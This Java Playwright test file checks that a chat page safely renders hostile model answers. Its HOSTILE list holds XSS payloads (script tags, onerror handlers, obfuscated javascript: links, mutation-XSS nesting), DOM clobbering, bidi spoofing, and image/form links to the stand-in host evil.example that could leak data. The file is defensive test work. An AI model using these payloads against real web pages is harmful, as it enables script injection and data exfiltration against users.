package dev.freshet.cli;

import static com.microsoft.playwright.assertions.PlaywrightAssertions.assertThat;
import static org.assertj.core.api.Assertions.assertThat;

import com.microsoft.playwright.Locator;
import com.microsoft.playwright.options.AriaRole;
import java.io.IOException;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.security.MessageDigest;
import java.security.NoSuchAlgorithmException;
import java.util.ArrayList;
import java.util.HexFormat;
import java.util.List;
import java.util.concurrent.CopyOnWriteArrayList;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

/// What a model says is hostile: nothing of it runs, nothing is fetched, and the page stays alive.
class ChatPageSafetyBrowserTest extends ChatPageFixture {
    private static final List<String> HOSTILE = List.of(
            "<script>window.owned = 1</script><img src=x onerror='window.owned = 2'>",
            "<svg><script>window.owned = 3</script><svg onload=window.owned=4><math><mtext><style><img src=x onerror=window.owned=5>",
            "[run](javascript:window.owned=6) [data](data:text/html,<script>parent.owned=7</script>) [vb](vbscript:x)",
            "[case](JaVaScRiPt:window.owned=8) [tab](java\tscript:window.owned=9) [entity](javascript&colon;window.owned=10)",
            "![picture](https://evil.example/a.png?secret) ![x](//evil.example/b.png) <img src=https://evil.example/c.png>",
            "<iframe src=https://evil.example/d></iframe><object data=https://evil.example/e></object><link rel=stylesheet href=https://evil.example/f.css>",
            "<form action=https://evil.example/g><button>Send</button></form><base href=https://evil.example/>",
            "`<img src=x onerror=window.owned=11>`\n\n```html\n<script>window.owned = 12</script>\n```\n",
            "```\"><img src=x onerror=window.owned=13>\ncode\n```\n",
            "$\\href{javascript:window.owned=14}{x}$ $$\\includegraphics{https://evil.example/h.png}$$ $\\style{background:url(https://evil.example/i)}{x}$",
            "<a href=\"https://ok.example\" onclick=\"window.owned=15\" style=\"position:fixed;inset:0\">all over</a>",
            "<https://evil.example/\u202Egnp.exe> [\u202Etxt.exe](https://evil.example/j) if (access\u202E\u2066// admin\u2069) {}",
            "<p id=message><input name=cookie><a id=form name=form>clobber</a>",
            "\u0000\uFFFE\uD800 <scr\u0000ipt>window.owned=16</script>",
            "[ref]: javascript:window.owned=17\n\n[ref]\n\n[x]: <data:text/html,x>\n\n[x]\n");

    private final List<String> fetched = new CopyOnWriteArrayList<>();

    @BeforeEach
    void watchWhatIsFetched() {
        profile.onRequest(request -> {
            if (!request.url().startsWith(served.url()) && !request.url().startsWith("data:,"))
                fetched.add(request.url());
        });
    }

    @ParameterizedTest
    @ValueSource(ints = {1, 7, 100_000})
    void nothingOfAHostileAnswerRunsOrIsFetched(int piece) {
        served.simulator.script("hostile", saying(String.join("\n\n", HOSTILE), piece));
        try (ChatPage page = ChatPage.open(profile, served.url() + "/").choose("hostile")) {
            page.ask("Attack");
            page.awaitStatus("Complete.");
            assertThat(page.text("hostile")).containsText("clobber");
            for (Locator link : page.text("hostile").locator("a").all()) {
                assertThat(link.getAttribute("href")).matches("(https?://|mailto:).*");
                assertThat(link.getAttribute("rel")).isEqualTo("noopener noreferrer");
            }
            assertThat(page.text("hostile")
                            .locator("script, img, iframe, object, svg, form, input, style, [style], [id], [onclick]"))
                    .hasCount(0);
            assertThat(page.text("hostile")).containsText("⟦U+202E⟧");
            assertThat(page.tab.evaluate("() => window.owned ?? 'no'")).isEqualTo("no");
            assertThat(page.button("Send")).isVisible();
            page.tab.reload();
            assertThat(page.text("hostile")).containsText("clobber");
            assertThat(page.tab.evaluate("() => window.owned ?? 'no'")).isEqualTo("no");
            assertThat(page.complaints()).isEmpty();
        }
        assertThat(fetched).isEmpty();
    }

    /// What makes parsers recurse, or look back again and again. Typing goes on meanwhile.
    @ParameterizedTest
    @ValueSource(
            strings = {
                "[", "(", ">", "> ", "*", "**a ", "_a", "`", "![", "[](", "$", "\\(", "- ", "|", "<", "&", "#", "~",
                "\\[", "1. "
            })
    void aHundredThousandBracketsLeaveThePageAlive(String mark) {
        served.simulator.script("nested", saying(mark.repeat(100_000 / mark.length()), 2_000));
        try (ChatPage page = ChatPage.open(profile, served.url() + "/").choose("nested")) {
            page.ask("Nest");
            page.awaitStatus("Complete.");
            page.message().fill("still here");
            assertThat(page.message()).hasValue("still here");
            assertThat(page.kept()).hasSize(100_000 / mark.length() * mark.length());
            assertThat(page.complaints()).isEmpty();
        }
    }

    /// However a text is cut, at its end it looks as if it had come at once; what had settled was right.
    @Test
    void aTextThatGrewIsTheWholeOne() throws IOException {
        List<String> texts = new ArrayList<>(HOSTILE);
        for (String name : List.of("general", "table", "code", "formula", "connect", "stall", "think"))
            texts.add(Files.readString(
                    Program.root().resolve("simulator/src/main/resources/dev/freshet/simulator/demo/" + name + ".md")));
        texts.add(
                "- a\n- b\n\n  more of b\n\n- c\n\n1. one\n2. two\n\n   ```js\n   let x;\n   ```\n\nA title\n===\n\nand\n---\n\nend");
        texts.add(
                "See [x][1] and [y].\n\ntext\n\nmore\n\nand more\n\n[1]: https://example.com/1\n[y]: https://example.com/2\n");
        texts.add(
                "| a | b |\n|---|---|\n| 1 | `x` |\n\n> quote\n> more\n\n$5 and $6, $x$ \\(y\\)\n\n\\[\nz\n\n= 1\n\\]\n\n~~~\ncode\n\nmore\n~~~\n\n***\n");
        try (ChatPage page = ChatPage.open(profile, served.url() + "/")) {
            Object different = page.tab.evaluate("""
                    async texts => {
                      const { Markdown } = await import('/chat/markdown.js');
                      const made = texts.map(text => {
                        const [grown, whole] = [0, 1].map(() => document.body.appendChild(document.createElement('div')));
                        const markdown = new Markdown(grown);
                        for (let at = 1; at <= text.length; at++) markdown.show(text.slice(0, at), false);
                        markdown.show(text, true);
                        new Markdown(whole).show(text, true);
                        return { text, grown, whole };
                      });
                      await new Promise(done => setTimeout(done, 3000)); // formulas and colours come later
                      const html = element => element.innerHTML.replace(/<div class="block" dir="auto">|<\\/div>/g, '');
                      return made.filter(({ grown, whole }) => html(grown) !== html(whole) || !whole.textContent)
                        .map(({ text, grown, whole }) => text + '\\n--- grown\\n' + grown.innerHTML + '\\n--- whole\\n' + whole.innerHTML);
                    }
                    """, texts);
            assertThat((List<?>) different).isEmpty();
        }
    }

    @Test
    void aKeyIsAskedForAndTakenFromTheAddress() throws IOException {
        try (Served guarded = new Served("access: keys\nkeys: [{name: one, hash: \"" + sha256("sk-page") + "\"}]\n")) {
            try (ChatPage page = new ChatPage(profile.newPage())) {
                page.tab.navigate(guarded.url() + "/");
                assertThat(page.tab.getByRole(AriaRole.DIALOG)).isVisible();
                page.picture("signin");
                page.tab.locator("#key").fill("sk-wrong");
                page.button("Sign in").click();
                assertThat(page.tab.getByText("This key is not known here.")).isVisible();
                page.tab.locator("#key").fill("sk-page");
                page.button("Sign in").click();
                assertThat(page.model()).hasValue("demo");
                page.ask("Hello");
                page.awaitStatus("Complete.");
                assertThat(page.tab.evaluate("() => JSON.stringify(localStorage) + document.cookie"))
                        .asString()
                        .doesNotContain("sk-page");
            }
            try (ChatPage page = ChatPage.open(profile, guarded.url() + "/#/key=sk-page")) {
                assertThat(page.tab.url()).isEqualTo(guarded.url() + "/");
                page.ask("Hello");
                page.awaitStatus("Complete.");
            }
        }
    }

    private static String sha256(String text) {
        try {
            byte[] digest = MessageDigest.getInstance("SHA-256").digest(text.getBytes(StandardCharsets.UTF_8));
            return HexFormat.of().formatHex(digest);
        } catch (NoSuchAlgorithmException e) {
            throw new AssertionError("every JVM has SHA-256", e);
        }
    }
}
